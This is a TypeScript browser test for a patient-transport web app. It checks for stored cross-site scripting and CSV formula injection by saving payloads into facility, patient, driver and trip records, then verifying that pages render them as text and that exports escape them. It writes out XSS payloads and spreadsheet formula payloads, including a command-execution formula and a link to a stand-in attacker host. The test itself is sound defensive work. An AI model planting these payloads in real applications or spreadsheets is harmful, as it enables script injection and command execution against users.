/**
 * Stored XSS in a real browser (issue 11): script and event-handler payloads are saved through the
 * API into fields of one linked facility, patient, driver and trip (the nurse's facility, a patient
 * of it, the driver account's record and a trip of both), then every menu page of each role and
 * every record page that shows those records is opened in Chromium. No dialog opens, no payload
 * becomes an element or a handler (checked in the DOM, so the test does not lean on the CSP alone),
 * and the CSP reports no blocked inline script. The CSV exports of the four lists neutralise the
 * formula payloads. The payloads themselves are shown as text on the record pages.
 */
import fs from "node:fs";
import type { Browser, BrowserContextOptions, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { FEATURE_CODES } from "../../domain/features";
import { driversModule } from "../../domain/modules/drivers";
import { facilitiesModule } from "../../domain/modules/facilities";
import { patientsModule } from "../../domain/modules/patients";
import { PENDING_ROUTES } from "../../domain/modules/registry";
import { tripsModule } from "../../domain/modules/trips";
import type { FeatureState } from "../../domain/navigation";
import { isMenuGroup, visibleMenu } from "../../domain/navigation";
import type { RoleCode } from "../../domain/privileges";
import { launchBrowser, signInThroughUi } from "./support/browser";
import type { RunningServer } from "./support/server";
import { startServer } from "./support/server";
import { apiGet, apiPost, storedUser } from "./support/sessionApi";
import { SLOW, waitForText } from "./support/tripSteps";

/** Every payload carries this word, so the DOM check can tell a payload's element from the app's. */
const MARK = "xsspayload";
const XSS = {
  script: `<script>alert('${MARK}-script')</script>`,
  img: `<img src=x onerror=alert('${MARK}-img')>`,
  svg: `"><svg/onload=alert('${MARK}-svg')>`,
  iframe: `<iframe src="javascript:alert('${MARK}-iframe')"></iframe>`,
  details: `<details open ontoggle=alert('${MARK}-details')>`,
  anchor: `<a href="javascript:alert('${MARK}-a')">${MARK}</a>`,
  quote: `' onmouseover='alert("${MARK}-attr")`,
};
/** Formula payloads: a spreadsheet would run them if a cell started with them. */
const FORMULA = {
  hyperlink: `=HYPERLINK("http://evil.example/?${MARK}","Open")`,
  at: `@SUM(1+1)*cmd|' /C calc'!A0 ${MARK}`,
  plus: `+1+1 ${MARK}`,
  minus: `-2+3 ${MARK}`,
};

const DESKTOP: BrowserContextOptions = {
  viewport: { width: 1280, height: 900 },
  acceptDownloads: true,
};
const PHONE: BrowserContextOptions = {
  viewport: { width: 390, height: 844 },
  isMobile: true,
  hasTouch: true,
  permissions: ["geolocation"],
  geolocation: { latitude: 39.9612, longitude: -82.9988, accuracy: 15 },
};
const ROLES = {
  systemadmin: DESKTOP,
  dataadmin: DESKTOP,
  facilityadmin: DESKTOP,
  nurse: DESKTOP,
  driver: PHONE,
  customer: DESKTOP,
} as const satisfies Partial<Record<RoleCode, BrowserContextOptions>>;
type Role = keyof typeof ROLES;

interface Signals {
  dialogs: string[];
}

let server: RunningServer;
let browser: Browser;
const pages = new Map<Role, Page>();
const signals = new Map<Role, Signals>();
const ids = { facility: "", patient: "", driver: "", trip: "" };

const pageOf = (role: Role) => {
  const page = pages.get(role);
  if (!page) throw new Error(`${role} is not signed in`);
  return page;
};

type Row = Record<string, unknown>;

/** GET the record, overwrite some fields, POST it back (the upsert ignores the read-side extras). */
async function poison(
  page: Page,
  prefix: string,
  id: string,
  change: (row: Row) => Row,
): Promise<Row> {
  const got = await apiGet<{ data: Row }>(page, `${prefix}/${id}`);
  expect(got.status).toBe(200);
  const saved = await apiPost<{ data: Row; message: string }>(
    page,
    prefix,
    change(got.json.data),
  );
  expect(saved.status, JSON.stringify(saved.json)).toBe(200);
  return saved.json.data;
}

async function firstId(
  page: Page,
  prefix: string,
  idField: string,
  body: Row,
): Promise<Row> {
  const found = await apiPost<{ data: Row[] }>(page, `${prefix}/search`, {
    pageNumber: 1,
    pageSize: 1,
    ...body,
  });
  expect(found.status).toBe(200);
  const row = found.json.data[0];
  if (!row?.[idField]) throw new Error(`no ${prefix} row for the payloads`);
  return row;
}

beforeAll(async () => {
  server = await startServer();
  browser = await launchBrowser();
  for (const role of Object.keys(ROLES) as Role[]) {
    const context = await browser.newContext(ROLES[role]);
    // Listen from the first document on: a blocked inline handler shows up as a CSP violation.
    await context.addInitScript(() => {
      const w = window as unknown as { __cspViolations: string[] };
      w.__cspViolations = [];
      document.addEventListener("securitypolicyviolation", (e) =>
        // A library probing for eval (zod does) is not a payload: inline code is what counts.
        e.blockedURI === "eval"
          ? undefined
          : w.__cspViolations.push(`${e.violatedDirective} ${e.blockedURI}`),
      );
    });
    const page = await context.newPage();
    const seen: Signals = { dialogs: [] };
    page.on("dialog", (dialog) => {
      seen.dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    await signInThroughUi(page, server.url, `${role}@example.com`);
    pages.set(role, page);
    signals.set(role, seen);
  }

  // One linked set: the nurse's facility, a trip of the driver account there, its patient.
  const admin = pageOf("systemadmin");
  const facilityId = (await storedUser(pageOf("nurse"))).facilityUserDetail
    ?.facilityId;
  const driverId = (await storedUser(pageOf("driver"))).driverDetail?.driverId;
  if (!facilityId || !driverId) throw new Error("demo accounts changed");
  const trip = await firstId(admin, "/trips", "tripId", {
    sortBy: "pickUpDatetime",
    sortDescending: true,
    additionalStringFilters: { driverId, facilityId },
    additionalArrayFilters: { tripStatuses: ["confirmed"] },
  });
  Object.assign(ids, {
    facility: facilityId,
    driver: driverId,
    trip: String(trip.tripId),
    patient: String(trip.patientId),
  });

  await poison(admin, "/facilities", ids.facility, (f) => ({
    ...f,
    facilityName: `Riverside ${XSS.img}`,
    addressLine2: XSS.svg,
    billingContactName: FORMULA.hyperlink,
  }));
  await poison(admin, "/patients", ids.patient, (p) => ({
    ...p,
    firstName: XSS.script,
    lastName: FORMULA.at,
    notes: `${XSS.iframe} ${XSS.details}`,
    addresses: (p.addresses as Row[]).map((a, i) =>
      i === 0 ? { ...a, line2: XSS.quote } : a,
    ),
  }));
  await poison(admin, "/drivers", ids.driver, (d) => ({
    ...d,
    firstName: XSS.svg,
    lastName: FORMULA.plus,
  }));
  await poison(admin, "/trips", ids.trip, (t) => ({
    ...t,
    specialInstructions: XSS.img,
    behaviorIssues: XSS.anchor,
    requesterName: FORMULA.minus,
    caseManagerName: XSS.details,
    pickUpRoomNumber: XSS.quote.slice(0, 50),
    pickUpAddress: { ...(t.pickUpAddress as Row), name: XSS.script },
  }));
});

afterAll(async () => {
  await browser?.close();
  await server?.stop();
});

/** What a payload left in the page: elements or handlers it made, and blocked inline scripts. */
async function payloadTraces(page: Page) {
  return page.evaluate((mark) => {
    const made: string[] = [];
    for (const el of Array.from(document.querySelectorAll("*"))) {
      for (const attr of Array.from(el.attributes)) {
        const handler = attr.name.startsWith("on");
        const jsUrl = /^\s*javascript:/i.test(attr.value);
        if ((handler || jsUrl) && attr.value.includes(mark))
          made.push(`<${el.tagName.toLowerCase()} ${attr.name}>`);
      }
      if (el.tagName === "SCRIPT" && el.textContent?.includes(mark))
        made.push("<script>");
    }
    const w = window as unknown as { __cspViolations?: string[] };
    return { made, csp: w.__cspViolations ?? [] };
  }, MARK);
}

/** Waits for a form field holding a payload (an edit form has loaded the poisoned record). */
const FIELD = Symbol("a form field holds a payload");

/**
 * Opens a page, lets it load its data (until `expectText` shows, a field holds a payload, or the
 * network is idle), and returns what the payloads did there.
 */
async function visit(
  role: Role,
  path: string,
  expectText?: string | typeof FIELD,
) {
  const page = pageOf(role);
  await page.goto(`${server.url}${path}`);
  if (expectText === FIELD)
    await page.waitForFunction(
      (mark) =>
        Array.from(
          document.querySelectorAll<HTMLInputElement>("input, textarea"),
        ).some((field) => field.value.includes(mark)),
      MARK,
      SLOW,
    );
  else if (expectText) await waitForText(page, expectText);
  else await page.waitForLoadState("networkidle", SLOW).catch(() => undefined);
  const traces = await payloadTraces(page);
  return { path, ...traces, dialogs: [...(signals.get(role)?.dialogs ?? [])] };
}

const clean = (path: string) => ({ path, made: [], csp: [], dialogs: [] });

/** The role's menu pages that are built (all toggles on: gates, not data, decide). */
function menuPathsOf(role: Role): string[] {
  const on: FeatureState = Object.fromEntries(
    FEATURE_CODES.map((c) => [c, true]),
  );
  const pending = new Set(PENDING_ROUTES.map((r) => r.path));
  return visibleMenu({ roles: [{ roleCode: role }] }, on)
    .flatMap((e) => (isMenuGroup(e) ? e.items.map((i) => i.path) : [e.path]))
    .filter((path) => !pending.has(path));
}

describe("stored XSS", () => {
  it("the DOM check finds a payload that became an element (it can fail)", async () => {
    const page = pageOf("systemadmin");
    await page.goto(`${server.url}/`);
    await page.evaluate((html) => {
      const probe = document.createElement("div");
      probe.innerHTML = html;
      document.body.append(probe);
    }, XSS.img);
    expect((await payloadTraces(page)).made).toEqual(["<img onerror>"]);
  });

  // Each menu page once, as the first role (in ROLES' order) whose menu has it: the pages are the
  // same screens for every role, only the rows differ, and the scoped roles' own records are the
  // poisoned ones.
  const walked = new Set<string>();
  it.each(Object.keys(ROLES) as Role[])(
    "%s: every menu page runs no payload",
    async (role) => {
      const paths = menuPathsOf(role);
      expect(paths.length).toBeGreaterThan(0);
      for (const path of paths.filter((p) => !walked.has(p))) {
        walked.add(path);
        expect(await visit(role, path)).toEqual(clean(path));
      }
    },
  );

  it("record pages show the payloads as text and run none of them", async () => {
    const record: [Role, string, string | typeof FIELD | undefined][] = [
      ["systemadmin", facilitiesModule.paths.show(ids.facility), XSS.img],
      ["systemadmin", facilitiesModule.paths.edit(ids.facility), FIELD],
      ["systemadmin", patientsModule.paths.show(ids.patient), XSS.script],
      ["systemadmin", patientsModule.paths.edit(ids.patient), FIELD],
      ["systemadmin", driversModule.paths.show(ids.driver), XSS.svg],
      ["systemadmin", driversModule.paths.edit(ids.driver), FIELD],
      ["systemadmin", tripsModule.paths.show(ids.trip), XSS.anchor],
      ["systemadmin", tripsModule.paths.edit(ids.trip), FIELD],
      ["systemadmin", tripsModule.paths.page("documents", ids.trip), undefined],
      ["dataadmin", tripsModule.paths.show(ids.trip), XSS.img],
      ["nurse", patientsModule.paths.show(ids.patient), XSS.script],
      ["nurse", patientsModule.paths.edit(ids.patient), FIELD],
      ["nurse", tripsModule.paths.show(ids.trip), XSS.img],
      ["facilityadmin", patientsModule.paths.show(ids.patient), XSS.script],
      ["driver", tripsModule.paths.show(ids.trip), XSS.img],
      ["driver", tripsModule.paths.page("management", ids.trip), undefined],
    ];
    for (const [role, path, text] of record)
      expect(await visit(role, path, text)).toEqual(clean(path));
    // The edit forms hold the payloads as plain input values.
    const page = pageOf("systemadmin");
    await page.goto(`${server.url}${patientsModule.paths.edit(ids.patient)}`);
    await expect
      .poll(
        () =>
          page
            .getByLabel(/first name/i)
            .first()
            .inputValue(),
        SLOW,
      )
      .toBe(XSS.script);
  });

  it.each([
    ["facilities", facilitiesModule.paths.list],
    ["patients", patientsModule.paths.list],
    ["drivers", driversModule.paths.list],
    ["trips", tripsModule.paths.list],
  ])(
    "the %s export neutralises formulas",
    async (_name, path) => {
      const page = pageOf("systemadmin");
      await page.goto(`${server.url}${path}`);
      const [download] = await Promise.all([
        page.waitForEvent("download", { timeout: 60_000 }),
        // The list's own Export (a list with bulk actions also holds a hidden "export selected").
        page
          .getByRole("button", { name: /^export$/i })
          .first()
          .click(SLOW),
      ]);
      const csv = fs.readFileSync((await download.path())!, "utf8");
      // A cell starts at the file's start, after a comma or a line break, inside its quotes if any.
      const cellStart = (rest: string) =>
        new RegExp(`(?:^|[,\\n])"?${rest}`, "g");
      const escape = (text: string) =>
        text.slice(0, 6).replace(/[.*+?^${}()|[\]\\]/g, "\\$&");
      let found = 0;
      for (const formula of Object.values(FORMULA)) {
        const start = escape(formula);
        expect(csv.match(cellStart(start)) ?? [], formula).toEqual([]);
        found += (csv.match(cellStart(`'${start}`)) ?? []).length;
      }
      expect(found).toBeGreaterThan(0);
    },
    90_000,
  );
});
